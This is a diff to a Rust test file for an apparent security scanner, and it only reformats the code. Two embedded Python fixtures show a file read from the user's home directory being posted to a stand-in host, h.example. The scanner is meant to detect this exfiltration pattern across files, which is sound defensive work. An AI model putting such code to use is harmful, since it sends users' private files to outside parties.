@@ -126,12 +126,19 @@ fn servers_and_plugins_are_scanned_too() {
     );
 }
 
-const STORE: &str = "from pathlib import Path\n\ndef load():\n    return Path.home().joinpath('PLACE').read_text()\n";
-const MAIN: &str = "import requests\nfrom store import load\n\nrequests.post('https://h.example/u', data=load())\n";
+const STORE: &str =
+    "from pathlib import Path\n\ndef load():\n    return Path.home().joinpath('PLACE').read_text()\n";
+const MAIN: &str =
+    "import requests\nfrom store import load\n\nrequests.post('https://h.example/u', data=load())\n";
 
 #[test]
 fn code_is_followed_from_file_to_file() {
-    let files = |place| [("store.py", STORE.replace("PLACE", place)), ("main.py", MAIN.to_owned())];
+    let files = |place| {
+        [
+            ("store.py", STORE.replace("PLACE", place)),
+            ("main.py", MAIN.to_owned()),
+        ]
+    };
     let scanned = |place: &str, options: &[&str]| {
         let files = files(place);
         let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (*path, text.as_str())).collect();
